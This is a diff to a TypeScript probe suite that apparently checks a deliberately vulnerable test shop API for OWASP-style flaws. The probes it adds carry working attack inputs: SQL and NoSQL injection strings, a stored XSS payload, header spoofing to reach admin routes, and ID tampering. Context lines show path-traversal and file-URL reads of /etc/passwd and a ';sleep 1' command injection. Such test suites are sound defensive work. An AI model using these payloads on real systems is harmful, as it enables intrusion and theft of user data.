@@ -89,6 +89,13 @@ export const PROBES: Record<FlawId, Probe> = {
       return r(c.status === 200 && Array.isArray(c.json) && c.json.some((a: { line1: string }) => a.line1 === '12 Rosebank Lane'), brief(c));
     },
   },
+  'bola-encoded-id': {
+    async run(t) {
+      const bobs = Buffer.from(String(SEED.orders.bob[0])).toString('base64');
+      const c = await call(t, 'GET', `/api/v2/receipts/${encodeURIComponent(bobs)}`, { key: t.users.alice.key });
+      return r(c.status === 200 && c.json?.customer?.email === t.users.bob.email, brief(c));
+    },
+  },
   'bola-create-read': {
     async run(t) {
       const title = `alice-secret-${uniq()}`;
@@ -189,6 +196,19 @@ export const PROBES: Record<FlawId, Probe> = {
       return r(noThrottle(results) && results.every((c) => c.status === 401), statuses(results));
     },
   },
+  'login-user-enumeration': {
+    async run(t) {
+      const unknown = await call(t, 'POST', '/api/v2/auth/login', { body: { username: `nobody_${uniq()}`, password: 'wrong-password-1' } });
+      const known = await call(t, 'POST', '/api/v2/auth/login', { body: { username: 'bob', password: 'wrong-password-2' } });
+      return r(unknown.status === 401 && known.status === 401 && unknown.text !== known.text, brief(unknown), brief(known));
+    },
+  },
+  'verification-code-no-throttle': {
+    async run(t) {
+      const tries = await burst(8, (i) => call(t, 'POST', '/api/v2/auth/verify-email', { body: { email: t.users.carol.email, code: String(100000 + i) } }), 1);
+      return r(noThrottle(tries) && tries.every((c) => c.status === 400), statuses(tries));
+    },
+  },
   'reset-no-throttle': {
     async run(t) {
       const asks = await burst(6, () => call(t, 'POST', '/api/v2/auth/password-reset', { body: { email: t.users.alice.email } }), 1);
@@ -282,6 +302,13 @@ export const PROBES: Record<FlawId, Probe> = {
       return r(c.text.includes('-----BEGIN PRIVATE KEY-----'), brief(c));
     },
   },
+  'token-claims-secret': {
+    async run(t) {
+      const c = await signIn(t, 'alice', t.users.alice.password);
+      const claims = typeof c.json?.accessToken === 'string' ? jwtParts(c.json.accessToken).payload : {};
+      return r(c.status === 200 && /^\$scrypt\$/.test(String(claims.pwdHash)), brief(c), Object.keys(claims).join(','));
+    },
+  },
 
   // ---- API4 ----
   'page-size-unbounded': {
@@ -321,6 +348,14 @@ export const PROBES: Record<FlawId, Probe> = {
       return r(big.status === 200 && big.ms > base.ms + 300 && big.ms > 3 * base.ms, `baseline ${Math.round(base.ms)} ms, 2000 chars ${Math.round(big.ms)} ms (${big.status})`);
     },
   },
+  'regex-backtracking': {
+    async run(t) {
+      const reset = (email: string) => call(t, 'POST', '/api/v2/auth/password-reset', { body: { email } });
+      const short = await reset(`${'a'.repeat(20)}!`);
+      const long = await reset(`${'a'.repeat(30)}!`);
+      return r(long.status === 400 && long.ms > short.ms + 200, `20 letters ${Math.round(short.ms)} ms, 30 letters ${Math.round(long.ms)} ms (${long.status})`);
+    },
+  },
 
   // ---- API5 ----
   'bfla-admin': {
@@ -345,6 +380,13 @@ export const PROBES: Record<FlawId, Probe> = {
       return r(a.status === 200 && b.status === 200 && a.json?.count >= 8, brief(a), brief(b));
     },
   },
+  'trusted-client-ip': {
+    async run(t) {
+      const plain = await call(t, 'GET', '/api/v2/admin/users');
+      const spoofed = await call(t, 'GET', '/api/v2/admin/users', { headers: { 'x-forwarded-for': '127.0.0.1' } });
+      return r(plain.status === 401 && spoofed.status === 200 && Array.isArray(spoofed.json) && spoofed.json.length >= 4, brief(plain), brief(spoofed));
+    },
+  },
   'account-delete-other': {
     async run(t) {
       const del = await call(t, 'DELETE', `/api/v2/users/${t.users.carol.id}`, { key: t.users.bob.key });
@@ -352,8 +394,22 @@ export const PROBES: Record<FlawId, Probe> = {
       return r(del.status === 204 && login.status === 401, brief(del), `carol signs in: ${login.status}`);
     },
   },
+  'unauth-reset': {
+    async run(t) {
+      const id = await createNote(t);
+      const reset = await call(t, 'GET', '/api/v2/maintenance/reset');
+      const after = await call(t, 'GET', `/api/v2/notes/${id}`, { key: t.users.alice.key });
+      return r(reset.status === 200 && after.status === 404, brief(reset), `note after: ${after.status}`);
+    },
+  },
 
   // ---- API6 ----
+  'negative-quantity': {
+    async run(t) {
+      const c = await call(t, 'POST', '/api/v2/orders', { key: t.users.alice.key, body: { items: [{ productId: 12, quantity: -2 }] } });
+      return r(c.status === 201 && c.json?.items?.[0]?.quantity === -2 && c.json?.total < 0, brief(c));
+    },
+  },
   'flow-checkout': {
     async run(t) {
       const checkout = await flowBurst(t, () => call(t, 'POST', '/api/v2/checkout', { key: t.users.alice.key, body: { items: [{ productId: 12, quantity: 1 }], paymentMethodId: SEED.paymentMethods.alice } }));
@@ -406,6 +462,13 @@ export const PROBES: Record<FlawId, Probe> = {
     async run(t) {
       const c = await call(t, 'POST', '/api/v2/link-preview', { key: t.users.alice.key, body: { url: 'file:///etc/passwd' } });
       return r(c.status === 200 && String(c.json?.snippet).includes('root:'), brief(c));
+    },
+  },
+  'ssrf-encoded': {
+    async run(t) {
+      const c = await call(t, 'POST', '/api/v2/link-archive', { key: t.users.alice.key, body: { url: `${t.url}/` } });
+      const content = typeof c.json?.content === 'string' ? Buffer.from(c.json.content, 'base64').toString('utf8') : '';
+      return r(c.status === 200 && content.includes('Acme Shop API') && !c.text.includes('Acme Shop API'), brief(c));
     },
   },
 
@@ -489,6 +552,28 @@ export const PROBES: Record<FlawId, Probe> = {
       return r(c.status === 200 && me.json?.username === 'alice', brief(c));
     },
   },
+  'sqli-path': {
+    async run(t) {
+      const path = (v: string) => `/api/v2/categories/${encodeURIComponent(v)}/products`;
+      const yes = await call(t, 'GET', path("books' AND '1'='1"));
+      const no = await call(t, 'GET', path("books' AND '1'='2"));
+      const union = await call(t, 'GET', path("x' UNION SELECT 4242*3,'n','d','c',1,1,1,1-- -"));
+      const n = (c: CallResult) => (Array.isArray(c.json?.items) ? c.json.items.length : -1);
+      return r(yes.status === 200 && n(yes) > 0 && n(no) === 0 && union.text.includes('12726'), brief(yes), brief(no), brief(union));
+    },
+  },
+  'nosql-query': {
+    async run(t) {
+      const c = await call(t, 'GET', '/api/v2/coupons/check?code[$ne]=nothing', { key: t.users.alice.key });
+      return r(c.status === 200 && c.json?.code === 'STAFF-ONLY-50', brief(c));
+    },
+  },
+  'nosql-where': {
+    async run(t) {
+      const c = await call(t, 'GET', `/api/v2/stores?city=${encodeURIComponent("Lyon' || 'a'==='a")}`);
+      return r(c.status === 200 && Array.isArray(c.json?.items) && c.json.items.length === 4, brief(c));
+    },
+  },
   'cmd-injection': {
     async run(t) {
       return timed(t, '/api/v2/downloads/checksum?file=catalog-2026.txt__P__', ';sleep 1', t.users.alice.key, 900);
@@ -498,6 +583,19 @@ export const PROBES: Record<FlawId, Probe> = {
     async run(t) {
       const c = await call(t, 'GET', `/api/v2/downloads/content?file=${encodeURIComponent(`${'../'.repeat(16)}etc/passwd`)}`, { key: t.users.alice.key });
       return r(c.status === 200 && c.text.includes('root:'), brief(c));
+    },
+  },
+  'stored-html': {
+    async run(t) {
+      const id = await createNote(t, `<img src=x onerror=alert(${uniq()})>`);
+      const c = await call(t, 'GET', `/api/v2/notes/${id}/print`, { key: t.users.alice.key });
+      return r(c.status === 200 && /text\/html/.test(c.headers['content-type'] ?? '') && /<img src=x onerror=/.test(c.text), brief(c));
+    },
+  },
+  'jsonp-callback': {
+    async run(t) {
+      const c = await call(t, 'GET', '/api/v2/me?callback=leak', { key: t.users.alice.key });
+      return r(c.status === 200 && /javascript/.test(c.headers['content-type'] ?? '') && c.text.includes('leak({') && c.text.includes(t.users.alice.email), brief(c));
     },
   },
   'trace-enabled': {
@@ -548,6 +646,24 @@ export const PROBES: Record<FlawId, Probe> = {
       const note = await call(t, 'POST', '/api/v2/notes', { key: t.users.alice.key, body: { title: 'status probe' } });
       const missing = await call(t, 'GET', '/api/v2/products/999999');
       return r(note.status === 200 && missing.status === 204, `create ${note.status}, unknown product ${missing.status}`);
+    },
+  },
+  'undocumented-collection': {
+    async run(t) {
+      const c = await call(t, 'GET', '/api/v2/users', { key: t.users.alice.key });
+      return r(c.status === 200 && JSON.stringify(c.json).includes('bob@acme.test'), brief(c));
+    },
+  },
+  'backup-file': {
+    async run(t) {
+      const c = await call(t, 'GET', '/backup.sql');
+      return r(c.status === 200 && c.text.includes('CREATE TABLE users'), brief(c));
+    },
+  },
+  'debug-console': {
+    async run(t) {
+      const c = await call(t, 'GET', '/console');
+      return r(c.status === 200 && c.text.includes('Werkzeug Debugger'), brief(c));
     },
   },
 
